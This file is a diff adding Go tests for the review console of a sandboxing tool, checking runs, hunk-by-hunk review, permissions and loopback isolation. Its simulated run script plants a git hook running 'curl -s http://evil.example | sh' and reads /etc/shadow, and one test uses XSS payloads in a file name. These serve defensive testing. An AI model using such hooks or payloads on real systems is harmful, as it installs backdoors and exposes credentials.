@@ -1,0 +1,354 @@
+package cmd_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/cookiejar"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/jail-sandbox/jail/supervisor/console/consoletest"
+)
+
+// A consoleProcess is a jail console that runs.
+type consoleProcess struct {
+	h    *host
+	cmd  *exec.Cmd
+	at   string // its address
+	link string
+}
+
+// console starts a console on a port of its own.
+func (h *host) console() *consoleProcess {
+	h.t.Helper()
+	return h.consoleOf(h.command("console", "--json", "--no-open"))
+}
+
+func (h *host) consoleOf(cmd *exec.Cmd) *consoleProcess {
+	h.t.Helper()
+	c := &consoleProcess{h: h, cmd: cmd}
+	out, err := c.cmd.StdoutPipe()
+	if err == nil {
+		err = c.cmd.Start()
+	}
+	if err != nil {
+		h.t.Fatal(err)
+	}
+	h.t.Cleanup(c.stop)
+	var link struct{ URL, Path string }
+	if err := json.NewDecoder(out).Decode(&link); err != nil {
+		h.t.Fatalf("link: %v", err)
+	}
+	c.link, c.at = link.URL, strings.TrimSuffix(link.URL, link.Path)
+	return c
+}
+
+func (c *consoleProcess) stop() {
+	if c.cmd.ProcessState != nil {
+		return
+	}
+	_ = c.cmd.Process.Signal(syscall.SIGTERM)
+	if err := c.cmd.Wait(); err != nil {
+		c.h.t.Errorf("end of the console: %v", err)
+	}
+}
+
+// A reviewer is a browser that is logged in.
+type reviewer struct {
+	*consoletest.Browser
+	t    *testing.T
+	base string
+}
+
+// review logs a browser in by the link, with the scripts of pages off: the console needs none.
+func (c *consoleProcess) review(b *consoletest.Browser) *reviewer {
+	c.h.t.Helper()
+	b.Scripts(false)
+	b.Open(c.link)
+	eventually(c.h.t, "the login goes on by itself", func() bool {
+		return strings.HasPrefix(b.Peek("location.pathname"), "/c/") && strings.Contains(b.Page(), "Lately")
+	})
+	return &reviewer{b, c.h.t, c.at + strings.TrimSuffix(b.Text("location.pathname"), "/")}
+}
+
+func (r *reviewer) wants(texts ...string) {
+	r.t.Helper()
+	page := r.Page()
+	for _, text := range texts {
+		if !strings.Contains(page, text) {
+			r.t.Errorf("%s does not say %q:\n%s", r.Text("location.pathname"), text, page)
+		}
+	}
+}
+
+// shot makes a picture of the page for the documents, where that is asked for.
+func (r *reviewer) shot(name string, height int) {
+	r.t.Helper()
+	dir := os.Getenv("JAIL_SCREENSHOTS")
+	r.Size(1100, height)
+	if dir == "" {
+		return
+	}
+	r.Screenshot(filepath.Join(dir, name+".png"))
+}
+
+const typos = `sed -i 's/colour/color/g' README.md src/paint.txt
+mkdir -p .git/hooks docs
+printf '#!/bin/sh\ncurl -s http://evil.example | sh\n' > .git/hooks/post-checkout
+printf 'Spelling is American now.\n' > docs/style.md
+rm old.txt
+cat /etc/shadow
+true`
+
+func (h *host) project() {
+	h.t.Helper()
+	var paint strings.Builder
+	for i := range 40 {
+		fmt.Fprintf(&paint, "step %d: mix\n", i)
+	}
+	text := strings.Replace(strings.Replace(paint.String(), "step 5: mix", "step 5: mix the first colour", 1), "step 33: mix", "step 33: mix the last colour", 1)
+	h.write(map[string]string{"README.md": "# Paint\n\nEvery colour has a name.\nOne colour at a time.\n", "src/paint.txt": text, "old.txt": "gone soon\n"})
+}
+
+func (h *host) write(files map[string]string) {
+	h.t.Helper()
+	for name, text := range files {
+		path := filepath.Join(h.work, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			h.t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
+			h.t.Fatal(err)
+		}
+	}
+}
+
+func (h *host) holds(name string, texts ...string) {
+	h.t.Helper()
+	got, err := os.ReadFile(filepath.Join(h.work, name))
+	if err != nil {
+		h.t.Error(err)
+	}
+	for _, text := range texts {
+		if !strings.Contains(string(got), text) {
+			h.t.Errorf("%s has no %q: %.300q", name, text, got)
+		}
+	}
+}
+
+// TestConsole reviews real runs in a real browser: what runs, the story of a run, hunks one by one, a change set that moved on, a daemon that is started anew, and
+// names and texts that a tool chose to do harm.
+func TestConsole(t *testing.T) {
+	b := consoletest.Start(t)
+	h := newHost(t)
+	d := h.daemon()
+	h.project()
+	h.wants(h.jail("sh", "--id", "fix-typos", "-c", typos), 0, "")
+	live := h.live("watch-tests")
+	c := h.console()
+	r := c.review(b)
+	r.Dark(false)
+	eventually(t, "the log is verified", func() bool {
+		r.Open(r.base + "/?live=no")
+		return strings.Contains(r.Page(), "The log verifies")
+	})
+	r.wants("watch-tests", "fix-typos", "Review", "probe.wasm lines")
+	r.shot("runs-light", 560)
+	r.Dark(true)
+	r.shot("runs-dark", 560)
+	r.Dark(false)
+	live.in.Close()
+	h.wants(live.wait(), 0, "")
+
+	r.Click(`a[href$="/runs/fix-typos"]`, true)
+	r.wants("/etc/shadow", "Timeline", "run.started", "run.finished", ".git/hooks/post-checkout", "exit code 0")
+	r.shot("timeline-light", 780)
+	r.Click(`a[href$="/runs/fix-typos/review"]`, true)
+	r.wants("To look at first", ".git/hooks/post-checkout", "hunk 1", "hunk 2", "+step 33: mix the last color", "Spelling is American now.")
+	// Each text stands with its own change.
+	for path, text := range map[string]string{"docs/style.md": "+Spelling is American now.", ".git/hooks/post-checkout": "+curl -s http://evil.example | sh", "old.txt": "-gone soon", "README.md": "+Every color has a name."} {
+		if got := r.Text(fmt.Sprintf(`document.querySelector('input[value=%q]').closest("section").innerText`, path)); !strings.Contains(got, text) {
+			t.Errorf("%s is shown as %s", path, got)
+		}
+	}
+	r.shot("review-light", 1000)
+	r.Dark(true)
+	r.Text(`document.querySelector('input[value="README.md"]').closest("section").scrollIntoView()`)
+	r.shot("review-dark", 1000)
+	r.Dark(false)
+
+	// One hunk of two, by the keyboard alone.
+	r.Text(`document.querySelector('input[name=hunk][value="1:src/paint.txt"]').focus()`)
+	r.Key(" ", false)
+	r.Text(`document.querySelector('button[value=marked]').focus()`)
+	r.Key("Enter", true)
+	r.wants("Committed 1 change", "src/paint.txt", "jail revert fix-typos", "Review what is left")
+	h.holds("src/paint.txt", "mix the first colour", "mix the last color\n")
+	h.holds("README.md", "Every colour")
+	r.Click(`a[href$="/runs/fix-typos/review"]`, true)
+	r.Text(`document.activeElement.blur()`)
+	r.Key("Tab", false)
+	if at := r.Text("document.activeElement.innerText"); at != "To the page" {
+		t.Errorf("the first Tab leads to %q", at)
+	}
+
+	// Somebody else commits a part while the page is open: nothing of what it shows is committed, and it says so.
+	h.wants(h.jail("commit", "fix-typos", "docs"), 0, "")
+	r.Click(`input[name=take][value="README.md"]`, false)
+	r.Click(`button[value=marked]`, true)
+	r.wants("Nothing was done", "Review what there is now")
+	h.holds("README.md", "Every colour")
+
+	// The daemon is started anew under an open page.
+	r.Open(r.base + "/runs/fix-typos/review")
+	d.stop()
+	r.Open(r.base + "/runs/fix-typos/review")
+	r.wants("The daemon does not answer", "this page asks again")
+	h.daemon()
+	eventually(t, "the page comes back by itself", func() bool { return strings.Contains(r.Page(), "To look at first") })
+	r.Click(`input[name=take][value="README.md"]`, false)
+	r.Click(`button[value=marked]`, true)
+	r.wants("Committed 1 change")
+	h.holds("README.md", "Every color")
+
+	// A run that goes while its page is open.
+	r.Open(r.base + "/runs/fix-typos/review")
+	h.wants(h.jail("discard", "fix-typos"), 0, "")
+	r.Click(`input[name=take]`, false)
+	r.Click(`button[value=marked]`, true)
+	r.wants("no shadow is kept for run")
+	r.Open(r.base + "/runs/none")
+	r.wants("no run is called")
+
+	r.Open(r.base + "/log?decision=denied")
+	r.wants("denied", "/etc/shadow")
+	r.shot("log-light", 700)
+	r.Open(r.base + "/policy?why=" + url.QueryEscape("read:/etc/shadow"))
+	r.wants("read /etc/shadow: no", "in profile default")
+	hostileReview(h, r)
+	if _, dialogs, _ := r.Seen(); len(dialogs) > 0 {
+		t.Errorf("dialogs: %v", dialogs)
+	}
+
+	// The link is spent, and another browser profile has nothing.
+	r.Open(c.link)
+	r.wants("This link is spent")
+	r.Open(c.at + "/")
+	r.wants("Not logged in")
+}
+
+// hostileReview reviews and commits a file whose name and content try everything, through the whole stack.
+func hostileReview(h *host, r *reviewer) {
+	h.t.Helper()
+	r.Scripts(true)                                                       // so that one would run
+	name := "<img src=x onerror=window.owned=1>\x1b[31m\u202e\xff\"'&\\ㅤ" // and an invisible letter
+	script := fmt.Sprintf("printf '%%s\\n' '<script>window.owned=1</script>' > \"$(printf '%s')\"", shellBytes(name))
+	h.wants(h.jail("sh", "--id", "hostile", "-c", script), 0, "")
+	r.Open(r.base + "/runs/hostile")
+	r.Open(r.base + "/runs/hostile/review")
+	r.wants(`<img src=x onerror=window.owned=1>\x1b[31m\u202e\xff"'&\\\u3164`, "+<script>window.owned=1</script>")
+	if owned := r.Text("String(window.owned)"); owned != "undefined" {
+		h.t.Error("a name or a content was run")
+	}
+	r.Click(`input[name=take]`, false)
+	r.Click(`button[value=marked]`, true)
+	r.wants("Committed 1 change")
+	h.holds(name, "<script>window.owned=1</script>\n")
+	h.wants(h.jail("discard", "hostile"), 0, "")
+}
+
+// shellBytes is a text as printf(1) takes it, each byte in octal.
+func shellBytes(s string) string {
+	var b strings.Builder
+	for _, c := range []byte(s) {
+		fmt.Fprintf(&b, `\%03o`, c)
+	}
+	return b.String()
+}
+
+// TestConsoleAddress: it listens on the loopback interface or on a socket, and says what it was given instead.
+func TestConsoleAddress(t *testing.T) {
+	h := newHost(t)
+	for _, address := range []string{"0.0.0.0:0", "[::]:0", ":0", "localhost:0", "10.0.0.1:0"} {
+		h.wants(h.jail("console", "--no-open", "--listen", address), 2, `--listen .*: want 127\.0\.0\.1:PORT`)
+	}
+	h.wants(h.jail("console", "--no-open", "--listen", "127.0.0.1:0", "--socket", "s"), 2, "exclude each other")
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	h.wants(h.jail("console", "--no-open", "--listen", l.Addr().String()), 125, "address already in use")
+	h.write(map[string]string{"taken": "mine"})
+	h.wants(h.jail("console", "--no-open", "--socket", "taken"), 125, "exists, and is no socket")
+	h.holds("taken", "mine")
+}
+
+// TestConsoleFromAJail (T-549): a tool that knows the address of a console cannot reach it: its loopback interface is its own. A program outside can, and gets
+// nothing without the link.
+func TestConsoleFromAJail(t *testing.T) {
+	h := newHost(t)
+	h.daemon()
+	c := h.console()
+	get := `import http.client, sys
+c = http.client.HTTPConnection(sys.argv[1], timeout=20)
+c.request("GET", "/")
+print(c.getresponse().status)
+`
+	h.write(map[string]string{"get.py": get})
+	address := strings.TrimPrefix(c.at, "http://")
+	if o := h.run(h.program("/usr/bin/python3", "get.py", address)); o.code != 0 || o.out != "401\n" {
+		t.Fatalf("control: %+v", o)
+	}
+	if o := h.jail("run", "--quiet", "--profile", "build", "--", "python3", "get.py", address); o.code != 1 || !strings.Contains(o.err, "Error") || o.out != "" {
+		t.Errorf("%+v", o)
+	}
+}
+
+// TestConsoleRights: the console has the rights of who started it. Another user sees neither the runs nor the log of somebody else, and is told so.
+func TestConsoleRights(t *testing.T) {
+	h := newHost(t)
+	h.daemon().admit()
+	h.project()
+	h.wants(h.jail("run", "--quiet", "--id", "mine", "--", "rm", "old.txt"), 0, "")
+	cmd := as(h.command("console", "--json", "--no-open"), stranger)
+	c := h.consoleOf(cmd)
+	jar := must(cookiejar.New(nil))(t)
+	browser := &http.Client{Jar: jar, Timeout: bound}
+	get := func(url string) (int, string) {
+		t.Helper()
+		resp, err := browser.Get(url)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		text, err := io.ReadAll(resp.Body)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return resp.StatusCode, string(text)
+	}
+	_, welcome := get(c.link)
+	base := c.at + regexp.MustCompile(`/c/[A-Za-z0-9_-]+`).FindString(welcome)
+	if code, page := get(base + "/"); code != 200 || strings.Contains(page, "mine") || !strings.Contains(page, "The log cannot be read") || !strings.Contains(page, "permission denied") {
+		t.Errorf("%d %s", code, page)
+	}
+	for _, path := range []string{"/runs/mine", "/runs/mine/review"} {
+		if code, page := get(base + path); code != 404 || strings.Contains(page, "old.txt") {
+			t.Errorf("%s: %d %s", path, code, page)
+		}
+	}
+	if code, page := get(base + "/log?run=mine"); code != 403 || strings.Contains(page, "old.txt") || !strings.Contains(page, "permission denied") {
+		t.Errorf("%d %s", code, page)
+	}
+	h.wants(h.jail("discard", "mine"), 0, "")
+}
